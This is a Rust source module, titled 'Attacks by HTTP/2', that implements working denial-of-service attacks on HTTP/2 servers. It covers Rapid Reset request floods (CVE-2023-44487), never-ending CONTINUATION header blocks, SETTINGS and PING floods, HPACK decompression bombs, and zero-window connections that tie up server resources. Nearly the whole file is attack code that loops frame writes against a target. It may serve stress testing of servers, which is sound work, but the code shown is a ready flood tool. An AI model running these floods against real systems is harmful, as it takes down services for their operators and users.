//! Attacks by HTTP/2 (RFC 9113).

use std::io::{self, Write as _};
use std::time::Duration;

use super::wire::{Signals, Target, Wire};

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// The initial window as a setting of none.
const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];
/// Frames written at once.
const BATCH: u32 = 16;
/// A request's header block (RFC 7541): GET of `/` at `a`.
const GET: [u8; 6] = [0x82, 0x86, 0x84, 0x41, 1, b'a'];

fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, data: &[u8]) {
    bytes.extend(&(data.len() as u32).to_be_bytes()[1..]);
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(data);
}

/// A connection whose preface and settings are sent.
fn connect(target: &Target, settings: &[u8]) -> io::Result<Box<dyn Wire>> {
    let mut wire = target.http2()?;
    let mut first = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(&mut first, SETTINGS, 0, 0, settings);
    wire.write_all(&first)?;
    wire.flush()?;
    Ok(wire)
}

/// Sends frames until the connection is cut, and then by another. What the server says is not read.
fn flood(target: &Target, signals: &Signals, frames: impl Fn(&mut Vec<u8>, u32)) {
    signals.ready();
    while signals.goes_on() {
        let Ok(mut wire) = connect(target, &[]) else {
            std::thread::sleep(Duration::from_millis(5));
            continue;
        };
        let mut n = 0;
        while signals.goes_on() {
            let mut bytes = Vec::new();
            for _ in 0..BATCH {
                frames(&mut bytes, n);
                n += 1;
            }
            if wire.write_all(&bytes).and_then(|()| wire.flush()).is_err() {
                break;
            }
        }
    }
}

/// Requests that are taken back at once (CVE-2023-44487).
pub(super) fn rapid_resets(target: &Target, signals: &Signals, _: usize) {
    flood(target, signals, |bytes, n| {
        frame(bytes, HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, &GET);
        frame(bytes, RST_STREAM, 0, 2 * n + 1, &[0, 0, 0, 8]);
    });
}

/// A header block that never ends.
pub(super) fn continuations(target: &Target, signals: &Signals, _: usize) {
    let field = [&[0, 1, b'x', 100][..], &[b'y'; 100]].concat();
    flood(target, signals, |bytes, n| match n {
        0 => frame(bytes, HEADERS, END_STREAM, 1, &GET),
        _ => frame(bytes, CONTINUATION, 0, 1, &field),
    });
}

/// SETTINGS, each of which wants an acknowledgement.
pub(super) fn settings(target: &Target, signals: &Signals, _: usize) {
    flood(target, signals, |bytes, _| frame(bytes, SETTINGS, 0, 0, &[]));
}

/// PINGs, each of which wants an answer.
pub(super) fn pings(target: &Target, signals: &Signals, _: usize) {
    flood(target, signals, |bytes, _| frame(bytes, PING, 0, 0, &[7; 8]));
}

/// Header blocks of some 10 KiB that unpack to a MiB (an HPACK bomb), a request each.
pub(super) fn bombs(target: &Target, signals: &Signals, _: usize) {
    let mut block = GET.to_vec();
    block.extend([0x40, 1, b'x', 100]);
    block.extend([b'y'; 100]);
    block.extend([0xbe; 10_000]);
    flood(target, signals, |bytes, n| frame(bytes, HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, &block));
}

/// A hundred pages asked for by each connection, and no window to send them in.
pub(super) fn zero_windows(target: &Target, signals: &Signals, count: usize) {
    let open = || {
        let mut wire = connect(target, &NO_WINDOW)?;
        let mut bytes = Vec::new();
        for n in 0..100 {
            frame(&mut bytes, HEADERS, END_HEADERS | END_STREAM, 2 * n + 1, &GET);
        }
        wire.write_all(&bytes)?;
        wire.flush()?;
        Ok::<_, io::Error>(wire)
    };
    let held: Vec<_> = (0..count).map_while(|_| signals.goes_on().then(|| open().ok())).collect();
    signals.ready();
    while signals.goes_on() {
        std::thread::sleep(Duration::from_millis(50));
    }
    drop(held);
}
